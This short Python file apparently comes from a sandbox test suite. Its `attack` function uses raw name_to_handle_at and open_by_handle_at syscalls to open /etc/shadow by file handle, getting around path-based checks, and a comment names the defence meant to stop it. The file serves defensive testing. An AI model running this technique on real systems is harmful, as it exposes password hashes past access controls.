"""Opens by a file handle, which goes by no path."""
# stopped by: name_to_handle_at


def attack(target):
    import ctypes

    libc = ctypes.CDLL(None)
    handle = ctypes.create_string_buffer(136)
    ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[0] = 128
    mount = ctypes.c_int()
    if libc.syscall(303, -100, b'/etc/shadow', handle, ctypes.byref(mount), 0) != 0:
        return False
    import os

    return libc.syscall(304, os.open('/etc', os.O_RDONLY), handle, 0) >= 0
